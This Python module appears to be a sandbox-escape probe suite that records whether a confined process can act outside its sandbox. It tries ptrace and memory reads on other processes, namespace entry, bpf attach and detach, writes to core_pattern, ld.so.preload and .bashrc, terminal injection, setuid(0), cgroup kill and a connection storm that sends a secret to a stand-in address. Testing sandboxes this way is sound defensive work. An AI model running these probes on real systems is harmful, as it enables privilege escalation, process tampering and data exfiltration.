"""What else a process can do to others, to namespaces and to the kernel, so that somebody outside does the work."""

# The system calls that an attacker would make:
# ruff: noqa: PTH115, PTH208

from __future__ import annotations

import ctypes
import errno
import fcntl
import os
import signal
import socket
import struct
import subprocess
import termios
from contextlib import suppress
from pathlib import Path
from typing import Any

from attacks.base import DONE, LIBC, SECRET, failure, in_child, raw_syscall, syscall, told

CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWCGROUP = (
    0x10000000,
    0x40000000,
    0x20000,
    0x20000000,
    0x2000000,
)
CLONE_NEWIPC, CLONE_NEWUTS = 0x8000000, 0x4000000
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
MS_BIND, MS_REC, MS_MOVE = 4096, 16384, 8192


def visible_pids() -> list[int]:
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


def on_pids(pids: list[int]) -> dict[str, str]:
    """Everything that one process may do to another of its account, to each of these numbers."""
    found = {}
    for pid in pids:
        steps = {
            "signal": lambda pid=pid: os.kill(pid, 0),
            "pidfd": lambda pid=pid: os.close(os.pidfd_open(pid)),
            "mem": lambda pid=pid: Path(f"/proc/{pid}/mem").open("r+b").close(),
            "environ": lambda pid=pid: Path(f"/proc/{pid}/environ").read_bytes(),
            "root": lambda pid=pid: os.listdir(f"/proc/{pid}/root"),
            "cwd": lambda pid=pid: os.listdir(f"/proc/{pid}/cwd"),
            "fd": lambda pid=pid: os.listdir(f"/proc/{pid}/fd"),
            "net": lambda pid=pid: os.close(os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)),
            "map_files": lambda pid=pid: os.listdir(f"/proc/{pid}/map_files"),
        }
        found |= {f"{pid} {name}": told(step) for name, step in steps.items()}
        for name, request in (("attach", PTRACE_ATTACH), ("seize", PTRACE_SEIZE)):
            found[f"{pid} {name}"] = syscall("ptrace", request, pid, 0, 0)
        found[f"{pid} vm"] = _read_memory(pid)
        found[f"{pid} kcmp"] = syscall("kcmp", pid, os.getpid(), 0, 0, 0)
    return found


def _read_memory(pid: int) -> str:
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("=QQ", ctypes.addressof(buffer), 8)
    remote = struct.pack("=QQ", 0x400000, 8)
    return syscall("process_vm_readv", pid, local, 1, remote, 1, 0)


def namespaces() -> dict[str, str]:
    """The namespaces of pid 1, the parents of our own, and what they belong to."""
    found = {}
    for kind in ("net", "mnt", "pid", "user", "cgroup", "ipc", "uts", "time"):
        for whose in ("1", "self"):
            try:
                opened = os.open(f"/proc/{whose}/ns/{kind}", os.O_RDONLY)
            except OSError as error:
                found[f"{whose} {kind}"] = errno.errorcode[error.errno or 0]
                continue
            found[f"{whose} {kind} setns"] = in_child(lambda fd=opened: syscall("setns", fd, 0))
            for name, request in (("parent", 0xB702), ("owner", 0xB701)):  # NS_GET_PARENT, NS_GET_USERNS
                found[f"{whose} {kind} {name}"] = told(fcntl.ioctl, opened, request)
            os.close(opened)
    return found


def namespaces_of_the_network() -> dict[str, str]:
    """SIOCGSKNS on a socket, and on what the account inherited."""
    with socket.socket() as opened:
        return {"socket": told(fcntl.ioctl, opened, 0x894C)}


def kernel_interfaces() -> dict[str, str]:
    """Calls that read or change other processes or the kernel, with arguments that would be right."""
    attributes = ctypes.create_string_buffer(128)
    attributes[0:8] = struct.pack("=II", 1, 120)  # PERF_TYPE_SOFTWARE
    instructions = struct.pack("=BBhi", 0xB7, 0, 0, 0) + struct.pack("=BBhi", 0x95, 0, 0, 0)
    program = ctypes.create_string_buffer(instructions, 16)
    text = ctypes.create_string_buffer(b"GPL")
    load = struct.pack("=IIQQIIQII", 1, 2, ctypes.addressof(program), ctypes.addressof(text), 0, 0, 0, 0, 0).ljust(
        128, b"\0"
    )
    maps = struct.pack("=IIIII", 2, 4, 4, 1, 0).ljust(128, b"\0")
    by_id = struct.pack("=III", 1, 0, 0).ljust(128, b"\0")
    return {
        "perf_event_open": syscall("perf_event_open", attributes, -1, 0, -1, 0),
        "perf_event_open of all": syscall("perf_event_open", attributes, -1, 0, -1, 8),
        "userfaultfd": syscall("userfaultfd", 0),
        "bpf: load": syscall("bpf", 5, load, 128),
        "bpf: map": syscall("bpf", 0, maps, 128),
        "bpf: program by id": syscall("bpf", 13, by_id, 128),
        "bpf: map by id": syscall("bpf", 14, by_id, 128),
        "bpf: link by id": syscall("bpf", 30, by_id, 128),
        "bpf: next program": syscall("bpf", 11, by_id, 128),
        "kexec_load": syscall("kexec_load", 0, 0, 0, 0),
        "init_module": syscall("init_module", program, 16, text),
        "io_uring_setup": syscall("io_uring_setup", 4, ctypes.create_string_buffer(120)),
        "add_key": syscall("add_key", b"user", b"x", b"y", 1, -3),
        "keyctl": syscall("keyctl", 0, -3, 1),
    }


def bpf_with_programs(descriptors: list[int], cgroups: list[str]) -> dict[str, str]:
    """Detach and attach through every descriptor and every cgroup directory in reach."""
    found = {}
    for path in cgroups:
        try:
            directory = os.open(path, os.O_RDONLY)
        except OSError as error:
            found[path] = errno.errorcode[error.errno or 0]
            continue
        for kind in (10, 11, 2, 3, 29, 30):  # connect4, connect6, sock_create, sock_ops, getpeername
            for program in (0, *descriptors):
                attach = struct.pack("=IIII", directory, program, kind, 0).ljust(128, b"\0")
                found[f"{path} detach {kind} {program}"] = syscall("bpf", 9, attach, 128)
                found[f"{path} attach {kind} {program}"] = syscall("bpf", 8, attach, 128)
        os.close(directory)
    return found


def pins() -> dict[str, str]:
    """The pinned links and their directory."""
    where = "/sys/fs/bpf"
    found = {"list": told(os.listdir, where)}
    for entry in ("nono-ebpf", "nono_ebpf"):
        path = ctypes.create_string_buffer(f"{where}/{entry}".encode())
        found[entry] = told(os.listdir, f"{where}/{entry}")
        found[f"get {entry}"] = syscall(
            "bpf", 7, struct.pack("=QII", ctypes.addressof(path), 0, 0).ljust(128, b"\0"), 128
        )
    return found


def own_descriptors() -> dict[str, str]:
    """What was inherited: the standard streams and nothing else."""
    found = {}
    for name in os.listdir("/proc/1/fd") if told(os.listdir, "/proc/1/fd") == DONE else []:
        with suppress(OSError):
            found[f"1/{name}"] = os.readlink(f"/proc/1/fd/{name}")
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            found[name] = os.readlink(f"/proc/self/fd/{name}")
    return found


def privileged_files() -> dict[str, str]:
    """What uid 0 owns without needing a capability for it, opened for writing."""
    names = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sysrq-trigger",
        "/proc/sys/net/core/bpf_jit_enable",
        "/sys/fs/cgroup/cgroup.procs",
        "/etc/passwd",
        "/etc/ld.so.preload",
        "/etc/cron.d/x",
        "/etc/resolv.conf",
        "/etc/hosts",
        "/etc/nsswitch.conf",
        "/sys/kernel/uevent_helper",
        "/dev/mem",
        "/proc/kcore",
        "/proc/1/attr/current",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/net/ipv4/conf/all/forwarding",
        "/proc/sys/net/ipv4/ping_group_range",
        "/proc/sys/kernel/ns_last_pid",
        "/proc/self/uid_map",
        "/root/.bashrc",
    ]
    return {
        name: told(lambda path=name: os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT))) for name in names
    }


def identity() -> dict[str, Any]:
    """Ids, capabilities, and what a set-uid program makes of them."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    wanted = ("Uid", "Gid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {name: status[name].strip() for name in wanted} | {"root": told(os.setuid, 0), "setgid": told(os.setgid, 0)}


def set_uid_programs() -> dict[str, str]:
    """Programs of root's that anybody may run: whose rights do they get?"""
    found = {}
    for name in ("su", "sudo", "mount", "passwd", "newgrp", "ping", "pkexec", "fusermount3", "chsh"):
        for directory in ("/bin", "/usr/bin", "/usr/sbin"):
            path = Path(directory, name)
            if path.exists() and path.stat().st_mode & 0o6000:
                found[str(path)] = _effective_uid_of(path)
    return found


def _effective_uid_of(program: Path) -> str:
    """Started and stopped at once by its own ulimit: /proc has its ids."""
    child = subprocess.Popen(
        [program, "--help"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        os.kill(child.pid, signal.SIGSTOP)
        line = next(
            line for line in Path(f"/proc/{child.pid}/status").read_text().splitlines() if line.startswith("Uid:")
        )
        return line.split()[2]
    except (StopIteration, OSError):
        return "gone"
    finally:
        child.kill()
        child.wait()


# --- cgroups


def cgroups_in_reach() -> list[str]:
    """Every cgroup directory that can be listed or written."""
    found = []
    for top, directories, files in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" in files:
            found.append(top)
        if top.count("/") > 7:
            directories.clear()
    return found


def migrate(groups: list[str]) -> dict[str, str]:
    """Into each group: by its file, and by a clone into it."""
    found = {}
    for group in groups:
        found[f"{group} procs"] = told(lambda path=group: Path(path, "cgroup.procs").write_text("0"))
        found[f"{group} threads"] = told(lambda path=group: Path(path, "cgroup.threads").write_text("0"))
        found[f"{group} child"] = told(lambda path=group: Path(path, "nono-child").mkdir())
        found[f"{group} clone"] = _clone_into(group)
        found[f"{group} kill"] = told(lambda path=group: Path(path, "cgroup.kill").write_text("1") and None)
    return found


def _clone_into(group: str) -> str:
    """clone3(2) with CLONE_INTO_CGROUP."""
    try:
        directory = os.open(group, os.O_RDONLY | os.O_DIRECTORY)
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    arguments = struct.pack("=11Q", 0x200000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, directory)
    pid = raw_syscall("clone3", arguments, len(arguments))
    if pid == 0:
        os._exit(0)
    result = DONE if pid > 0 else failure()
    if pid > 0:
        os.waitpid(pid, 0)
    os.close(directory)
    return result


# --- terminals


def inject() -> dict[str, str]:
    """Into whatever terminal there is, also with the upper half of the request set."""
    found = {}
    main, other = os.openpty()
    for name, request in (("TIOCSTI", termios.TIOCSTI), ("TIOCLINUX", 0x541C)):
        for width, value in (("", request), (", wide", request | 1 << 32)):
            result = LIBC.ioctl(ctypes.c_int(other), ctypes.c_ulong(value), b"x")
            found[name + width] = DONE if result >= 0 else failure()
    os.close(main)
    os.close(other)
    for path in sorted(Path("/dev/pts").glob("[0-9]*")):
        found[str(path)] = told(lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_NOCTTY)))
    for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/vcs", "/dev/ttyS0", "/dev/hvc0"):
        found[name] = told(lambda path=name: os.close(os.open(path, os.O_WRONLY | os.O_NOCTTY)))
    return found


# --- what is shared with the host besides the network


def shared_memory(name: str) -> dict[str, str]:
    """Queues and segments by names that a process outside uses."""
    queue = raw_syscall("mq_open", name.encode(), os.O_RDWR, 0, None)
    listed = [path for place in ("/dev/mqueue", "/dev/shm") if Path(place).is_dir() for path in os.listdir(place)]
    system_v = Path("/proc/sysvipc/shm").read_text().count("\n") - 1
    return {
        "queue": DONE if queue >= 0 else failure(),
        "listed": ",".join(each_name for each_name in listed if name in each_name),
        "system v": str(system_v),
    }


def make_shared(name: str) -> dict[str, str]:
    """The other end: a queue, System V memory, a file in /dev/shm."""
    attributes = struct.pack("=8q", 0, 4, 64, 0, 0, 0, 0, 0)
    queue = raw_syscall("mq_open", name.encode(), os.O_RDWR | os.O_CREAT, 0o666, attributes)
    segment = LIBC.shmget(0x6E6F6E6F, 4096, 0o1666)
    return {"queue": DONE if queue >= 0 else failure(), "segment": DONE if segment >= 0 else failure()}


def unshared(flags: int) -> str:
    return DONE if LIBC.unshare(flags) == 0 else failure()


def exhaust_descriptors() -> dict[str, str]:
    """Every descriptor used up: a connect still fails or is judged."""
    kept: list[Any] = []
    try:
        while True:
            kept.append(os.dup(0))
    except OSError:
        pass
    os.close(kept.pop())
    met = {"socket": told(socket.socket)}
    try:
        opened = socket.socket()
        met["connect"] = told(opened.connect, ("203.0.113.15", 7))
        met["send"] = told(opened.send, SECRET)
    except OSError as error:
        met["connect"] = errno.errorcode[error.errno or 0]
    return met


def storm(address: str, port: int, count: int) -> dict[str, int]:
    """Connects without end, half of them abandoned: records, ports and queues run out."""
    met: dict[str, int] = {}
    kept = []
    for index in range(count):
        opened = socket.socket()
        opened.setblocking(False)
        outcome = told(opened.connect, (address, port))
        met[outcome] = met.get(outcome, 0) + 1
        told(opened.send, SECRET)
        if index % 2:
            kept.append(opened)
        else:
            opened.close()
        if len(kept) > 400:
            kept.pop(0).close()
    return met
